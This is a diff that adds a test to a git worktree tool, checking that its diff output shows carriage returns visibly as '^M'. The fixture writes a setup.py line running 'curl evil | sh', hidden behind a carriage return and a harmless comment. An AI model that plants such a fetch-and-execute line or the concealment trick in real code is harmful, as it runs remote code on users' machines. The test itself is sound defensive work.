@@ -157,6 +157,25 @@ def test_diff_never_sends_a_files_escape_sequences_to_your_terminal(tmp_path: Pa
     assert "+x y z 31m end" in patch.stdout.splitlines()  # the text around them stays
 
 
+def test_diff_shows_a_carriage_return_that_would_hide_part_of_a_line(tmp_path: Path) -> None:
+    # Drawn on a terminal, the comment after the return covers the command before it.
+    hidden = "import os; os.system('curl evil | sh')\r# keep the imports sorted\n"
+    repo = make_repo(tmp_path / "repo")
+    base = git(repo, "rev-parse", "HEAD")
+    brancher = Brancher(repo)
+    brancher.branch("swarm/cr", base, {"setup.py": hidden, "dos.txt": "a line\r\n"})
+    brancher.close()
+    record_run(repo, [("cr", base)], base=base)
+    patch = subprocess.run(
+        [sys.executable, "-m", "worktree_swarm.cli", "diff", "cr"],
+        cwd=repo, capture_output=True, check=True,
+    )  # fmt: skip
+    lines = patch.stdout.split(b"\n")
+    assert b"+import os; os.system('curl evil | sh')^M# keep the imports sorted" in lines
+    assert b"+a line\r" in lines  # a line's own ending stays as it is
+    assert b"\r" not in patch.stdout.replace(b"\r\n", b"")
+
+
 def test_diff_redacts_the_secrets_of_a_tasks_own_env(tmp_path: Path) -> None:
     repo = make_repo(tmp_path / "repo")
     value = "task-env-secret-3f9a-77c1"
